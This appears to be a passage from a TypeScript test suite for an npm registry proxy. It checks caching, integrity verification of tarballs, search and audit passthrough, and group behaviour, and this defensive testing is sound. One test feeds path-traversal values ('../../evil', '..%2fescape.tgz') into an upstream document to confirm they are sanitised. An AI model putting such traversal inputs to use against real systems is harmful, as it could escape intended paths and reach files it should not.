    expect(version.dist).toEqual({ ...upstreamVersion.dist, tarball: `${r.url}/proxy/pub/-/pub-1.0.0.tgz` });
    expect(answer.json.readme).toBe('the readme');
    expect(relay.requests).toContain('GET /origin/pub');
  });

  it('asks the upstream for a scoped name with the slash encoded', async () => {
    expect((await r.request('proxy', { path: '/@pub%2fscoped' })).json.versions['3.0.0'].dist.tarball).toBe(`${r.url}/proxy/@pub/scoped/-/scoped-3.0.0.tgz`);
    expect(relay.requests).toContain('GET /origin/@pub%2fscoped');
  });

  it('fetches a tarball from where the upstream said, verifies it, then serves it from the cache', async () => {
    const { tarball } = await pkg('pub', '1.0.0');
    const first = await r.request('proxy', { path: '/pub/-/pub-1.0.0.tgz' });
    expect(first.status).toBe(200);
    expect(first.bytes.equals(tarball)).toBe(true);
    expect(relay.requests).toContain('GET /origin/pub/-/pub-1.0.0.tgz');
    const before = relay.requests.length;
    const second = await r.request('proxy', { path: '/pub/-/pub-1.0.0.tgz' });
    expect(second.headers['x-cache']).toBe('HIT');
    expect(second.bytes.equals(tarball)).toBe(true);
    expect(relay.requests.length).toBe(before);
    expect((await r.request('proxy', { path: '/@pub/scoped/-/scoped-3.0.0.tgz' })).status).toBe(200);
  });

  it('answers 404 for a tarball the upstream does not list, without asking for it', async () => {
    expect((await r.request('proxy', { path: '/pub/-/pub-9.9.9.tgz' })).status).toBe(404);
    expect(relay.requests.some((q) => q.includes('9.9.9'))).toBe(false);
    expect((await r.request('proxy', { path: '/missing' })).status).toBe(404);
    expect(relay.requests).toContain('GET /origin/missing');
  });

  it('refuses writes', async () => {
    const answer = await publish(r, 'proxy', 'pub', '2.0.0');
    expect(answer.status).toBe(405);
    expect((await r.request('proxy', { method: 'PUT', path: '/-/package/pub/dist-tags/beta', user: alice, body: '1.0.0' })).status).toBe(405);
    expect(relay.requests.some((q) => !q.startsWith('GET '))).toBe(false);
  });

  it('passes search to the upstream, the size capped at the host limit', async () => {
    const found = await r.request('proxy', { path: '/-/v1/search?text=pub&size=500' });
    expect(found.status).toBe(200);
    expect(found.json.objects.map((o: { package: { name: string } }) => o.package.name).sort()).toEqual(['@pub/scoped', 'pub']);
    expect(found.json.total).toBe(2);
    expect(relay.requests.at(-1)).toBe(`GET /origin/-/v1/search?text=pub&size=${MAX_SEARCH}&from=0`);
  });

  it('keeps serving the cached document when the upstream is down', async () => {
    expect((await r.request('proxy', { path: '/pub' })).status).toBe(200);
    await relay.stop();
    const stale = await r.request('proxy', { path: '/pub' });
    expect(stale.status).toBe(200);
    expect(stale.headers['x-cache']).toBe('STALE');
    expect(Object.keys(stale.json.versions)).toEqual(['1.0.0', '1.1.0']);
  });
});

describe('proxy of a static mirror', () => {
  // What a registry-core upstream cannot be: a plain file server (no ETag, no search, no
  // audit unless the handler answers one), legacy names, tampered files, broken documents.
  let mirror: StaticMirror;
  let docs: Map<string, unknown>;
  let files: Map<string, Buffer>;
  let r: NpmRegistry;
  /** Serves `docs` and `files`; 404 otherwise. */
  const serveFiles = (path: string, method: string): MirrorAnswer => {
    const decoded = decodeURIComponent(path.split('?')[0]!);
    if (method === 'GET' && docs.has(decoded)) return { status: 200, body: docs.get(decoded) as object };
    if (method === 'GET' && files.has(decoded)) return { status: 200, body: files.get(decoded)! };
    return { status: 404, body: { error: 'not found' } };
  };
  beforeEach(async () => {
    docs = new Map();
    files = new Map();
    mirror = await startStaticMirror(serveFiles);
    for (const p of [
      { name: 'pub', versions: ['1.0.0', '1.1.0'] },
      { name: 'JSONStream', versions: ['1.3.5'] },
    ]) {
      const versions: Record<string, unknown> = {};
      for (const v of p.versions) {
        const { manifest, tarball } = await pkg(p.name, v);
        const file = fileOf(p.name, v);
        files.set(`${p.name}/-/${file}`, tarball);
        versions[v] = { ...manifest, dist: { tarball: `${mirror.base}${p.name}/-/${file}`, integrity: `sha512-${sha512(tarball)}`, shasum: sha1(tarball), signatures: [{ keyid: 'k', sig: 's' }] } };
      }
      docs.set(p.name, { _id: p.name, name: p.name, 'dist-tags': { latest: p.versions.at(-1)! }, versions, time: { modified: '2024-05-05T00:00:00.000Z' }, readme: 'upstream readme' });
    }
    r = await registry({ repositories: { proxy: { format: 'npm', type: 'proxy', upstream: mirror.base, cache: { metadataTtl: 0, retries: 0 } } } });
  });
  afterEach(async () => {
    await r.stop();
    await mirror.stop();
  });

  it('serves a mirror document without ETag, digests untouched, and reads legacy mixed-case names', async () => {
    const answer = await r.request('proxy', { path: '/pub', headers: { accept: 'application/json' } });
    expect(answer.status).toBe(200);
    const upstreamDist = (docs.get('pub') as { versions: Record<string, { dist: Record<string, unknown> }> }).versions['1.0.0']!.dist;
    expect(answer.json.versions['1.0.0'].dist).toEqual({ ...upstreamDist, tarball: `${r.url}/proxy/pub/-/pub-1.0.0.tgz` });
    expect(answer.json.readme).toBe('upstream readme');
    const legacy = await r.request('proxy', { path: '/JSONStream', headers: { accept: ABBREVIATED } });
    expect(legacy.json['dist-tags'].latest).toBe('1.3.5');
    expect(mirror.requests).toContain('GET JSONStream');
    expect((await r.request('proxy', { path: '/JSONStream/-/JSONStream-1.3.5.tgz' })).bytes.equals(files.get('JSONStream/-/JSONStream-1.3.5.tgz')!)).toBe(true);
  });

  it('refuses a tarball that does not match the announced integrity, and stores nothing', async () => {
    const genuine = files.get('pub/-/pub-1.1.0.tgz')!;
    files.set('pub/-/pub-1.1.0.tgz', Buffer.from('tampered'));
    const answer = await r.request('proxy', { path: '/pub/-/pub-1.1.0.tgz' });
    expect(answer.status).toBe(502);
    expect(answer.json.error).toMatch(/does not match its announced digest/);
    // nothing was kept: with the genuine file back, the next read fetches it again
    files.set('pub/-/pub-1.1.0.tgz', genuine);
    const asked = mirror.requests.filter((q) => q === 'GET pub/-/pub-1.1.0.tgz').length;
    const again = await r.request('proxy', { path: '/pub/-/pub-1.1.0.tgz' });
    expect(again.status).toBe(200);
    expect(again.headers['x-cache']).toBe('MISS');
    expect(again.bytes.equals(genuine)).toBe(true);
    expect(mirror.requests.filter((q) => q === 'GET pub/-/pub-1.1.0.tgz').length).toBe(asked + 1);
  });

  it('falls back to the conventional tarball path when the upstream points elsewhere', async () => {
    const versions = (docs.get('pub') as { versions: Record<string, { dist: { tarball: string } }> }).versions;
    versions['1.0.0']!.dist.tarball = 'https://cdn.elsewhere.invalid/files/pub-1.0.0.tgz';
    const answer = await r.request('proxy', { path: '/pub/-/pub-1.0.0.tgz' });
    expect(answer.status).toBe(200);
    expect(answer.bytes.equals(files.get('pub/-/pub-1.0.0.tgz')!)).toBe(true);
    expect(mirror.requests).toContain('GET pub/-/pub-1.0.0.tgz');
  });

  it('serves a hostile upstream document sanely', async () => {
    docs.set('weird', { name: '../../evil', 'dist-tags': { latest: '1.0.0', x: 'nope' }, versions: { '1.0.0': { dist: { tarball: `${mirror.base}weird/-/..%2fescape.tgz`, shasum: 'ab'.repeat(20) } }, bad: 7 } });
    const answer = await r.request('proxy', { path: '/weird', headers: { accept: ABBREVIATED } });
    expect(answer.status).toBe(200);
    expect(Object.keys(answer.json.versions)).toEqual(['1.0.0']);
    expect(answer.json.versions['1.0.0'].dist.tarball).toBe(`${r.url}/proxy/weird/-/weird-1.0.0.tgz`);
    expect(answer.json['dist-tags']).toEqual({ latest: '1.0.0' });
    mirror.handler = (path, method, body) => (path === 'not-json' ? { status: 200, body: '{oops' } : serveFiles(path, method));
    expect((await r.request('proxy', { path: '/not-json' })).status).toBe(502);
  });

  it('answers an empty search when the upstream has none or is down', async () => {
    expect((await r.request('proxy', { path: '/-/v1/search?text=pub' })).json).toMatchObject({ objects: [], total: 0 });
    expect(mirror.requests.at(-1)).toBe('GET -/v1/search?text=pub&size=20&from=0');
    mirror.down = true;
    expect((await r.request('proxy', { path: '/-/v1/search?text=pub' })).json).toMatchObject({ objects: [], total: 0 });
  });

  it('passes audits upstream; a failing upstream is an error, never "no advisories"', async () => {
    mirror.handler = (path, method, body) =>
      method === 'POST' && path === '-/npm/v1/security/advisories/bulk' ? { status: 200, body: { pub: [{ id: 1, body: body.toString() }] } } : { status: 404 };
    const audit = await r.request('proxy', { method: 'POST', path: '/-/npm/v1/security/advisories/bulk', body: Buffer.from('{"pub":["1.0.0"]}'), headers: { 'content-type': 'application/json' } });
    expect(audit.json).toEqual({ pub: [{ id: 1, body: '{"pub":["1.0.0"]}' }] });
    expect((await r.request('local', { method: 'POST', path: '/-/npm/v1/security/advisories/bulk', body: Buffer.from('{}'), headers: { 'content-type': 'application/json' } })).json).toEqual({});
    // An upstream whose audit endpoint answers an error, or none at all: an error, which npm
    // reports as a failed audit (an empty answer would read "found 0 vulnerabilities").
    const quick = () => r.request('proxy', { method: 'POST', path: '/-/npm/v1/security/audits/quick', body: Buffer.from('{}'), headers: { 'content-type': 'application/json' } });
    const failing = await quick();
    expect(failing.status).toBe(502);
    expect(failing.json).not.toEqual({});
    mirror.down = true;
    const down = await quick();
    expect(down.status).toBeGreaterThanOrEqual(502);
    expect(down.json).not.toEqual({});
  });
});

describe('a group of two proxies, warm', () => {
  // The warm path of an install: the abbreviated answer of a package is kept (by the
  // revisions of the members' documents), and a read finding it kept must not parse the
  // members' documents again. The derived memory here is too small to keep them parsed (each
  // carries a 200 KB readme), not too small for the abbreviated answer (which has no readme).
  let mirror: StaticMirror;
  let host: TestHost;
  beforeEach(async () => {
    const versions: Record<string, unknown> = {};
    for (const v of ['1.0.0', '1.1.0']) {
      const { manifest, tarball } = await pkg('pub', v);
      versions[v] = { ...manifest, dist: { tarball: `http://mirror.invalid/pub/-/${fileOf('pub', v)}`, integrity: `sha512-${sha512(tarball)}`, shasum: sha1(tarball) } };
    }
    const doc = { _id: 'pub', name: 'pub', 'dist-tags': { latest: '1.1.0' }, versions, readme: 'r'.repeat(200_000) };
    mirror = await startStaticMirror((path) => (path === 'pub' ? { status: 200, body: doc } : { status: 404, body: { error: 'not found' } }));
    const proxy = { format: 'npm', type: 'proxy', upstream: mirror.base, cache: { metadataTtl: 300, retries: 0 } };
    host = await createTestHost({
      plugins: [NPM_PLUGIN],
      repositories: { one: proxy, two: proxy, all: { format: 'npm', type: 'group', members: ['one', 'two'] } },
      config: { server: { derivedCacheSize: '1mb' } },
    });
  });
  afterEach(async () => {
    await host.stop();
    await mirror.stop();
  });

  it('answers a kept rendering without parsing any member document', async () => {
    const parses = async () => JSON.parse((await host.rawRequest('/-/stats')).body.toString('utf8')).metadataMemory.parses as number;
    // A date condition keeps each request off the host's replayed answers (the path measured here is the full one).
    const read = () => npmRequest(host, 'all', { path: '/pub', headers: { accept: ABBREVIATED, 'if-modified-since': 'Thu, 01 Jan 1970 00:00:00 GMT' } });
    const first = await read();
    expect(first.status).toBe(200);
    expect(Object.keys(first.json.versions)).toEqual(['1.0.0', '1.1.0']);
    expect(first.json.readme).toBeUndefined();
    const before = await parses();
    expect(before).toBe(2);
    const again = await read();
    expect(again.status).toBe(200);
    expect(again.bytes.equals(first.bytes)).toBe(true);
    expect(await parses()).toBe(before);
    // The full document (not kept: its readme is over the memory's share for one entry) still reads them.
    const full = await npmRequest(host, 'all', { path: '/pub', headers: { accept: 'application/json' } });
    expect(full.json.readme).toHaveLength(200_000);
    expect(await parses()).toBe(before + 2);
  });
});

describe('format definition', () => {
  it('validates its own config keys (the configSchema of its manifest, before activation)', async () => {
    await expect(
      createTestHost({ plugins: [NPM_PLUGIN], repositories: { bad: { format: 'npm', type: 'hosted', allowUnpublish: 'no' }, good: { format: 'npm', type: 'hosted', allowUnpublish: false } } }),
    ).rejects.toThrow(/repositories\.bad\.allowUnpublish: must be boolean/);
    const good = await createTestHost({ plugins: [NPM_PLUGIN], repositories: { good: { format: 'npm', type: 'hosted', allowUnpublish: false } } });
    await good.stop();
  });

  it('prints client configuration lines with the nerf-darted token key, and yarn 4\'s (plain HTTP allowed, no age gate)', () => {
    const info = { name: 'npm', format: 'npm', type: 'group' as const, url: 'http://127.0.0.1:4000/npm/', config: {}, takesWrites: true, reachesUpstream: true };
    expect(clientConfig(info)).toEqual([
      'npm config set registry http://127.0.0.1:4000/npm/',
      '.npmrc: //127.0.0.1:4000/npm/:_authToken=${NPM_TOKEN}',
      // A flow mapping: the whole .yarnrc.yml on one line (checked with yarn 4.18: `yarn config get` reads each key).
      '.yarnrc.yml (yarn 4): { npmRegistryServer: "http://127.0.0.1:4000/npm/", unsafeHttpWhitelist: ["127.0.0.1"], npmMinimalAgeGate: 0, npmAuthToken: "${NPM_TOKEN}" }',
      'npm publish --registry http://127.0.0.1:4000/npm/',
    ]);
    expect(clientConfig({ ...info, type: 'proxy', takesWrites: false })).toHaveLength(3);
    expect(clientConfig({ ...info, url: 'https://npm.example/npm/' })[2]).toBe('.yarnrc.yml (yarn 4): { npmRegistryServer: "https://npm.example/npm/", npmMinimalAgeGate: 0, npmAuthToken: "${NPM_TOKEN}" }');
  });

  it('parses dist-tag paths', () => {
    expect(parseDistTagPath(['@s/q', 'dist-tags', 'beta'])).toMatchObject({ name: { name: '@s/q' }, tag: 'beta' });
    expect(parseDistTagPath(['@s', 'q', 'dist-tags'])).toMatchObject({ name: { name: '@s/q' }, tag: undefined });
    expect(parseDistTagPath(['dist-tags', 'dist-tags', 'dist-tags'])).toMatchObject({ name: { name: 'dist-tags' }, tag: 'dist-tags' });
    expect(statusOf(() => parseDistTagPath(['p', 'tags']))).toBe(404);
    expect(statusOf(() => parseDistTagPath(['p', 'dist-tags', 'a', 'b']))).toBe(404);
    expect(statusOf(() => parseDistTagPath(['a/b', 'dist-tags'], '/-/package/a%2fb/dist-tags'))).toBe(400);
  });

  describe('default upstream', () => {
    const saved = { path: process.env['PATH'], registry: process.env['npm_config_registry'] };
    afterEach(() => {
      process.env['PATH'] = saved.path;
      if (saved.registry === undefined) delete process.env['npm_config_registry'];
      else process.env['npm_config_registry'] = saved.registry;
    });

    it('falls back to npm_config_registry when npm cannot be run', async () => {
      process.env['PATH'] = '/nonexistent';
      process.env['npm_config_registry'] = 'http://mirror.invalid/npm';
      expect(await localNpmRegistry()).toBe('http://mirror.invalid/npm/');
      process.env['npm_config_registry'] = 'not a url';
      expect(await localNpmRegistry()).toBeUndefined();
    });
  });
});
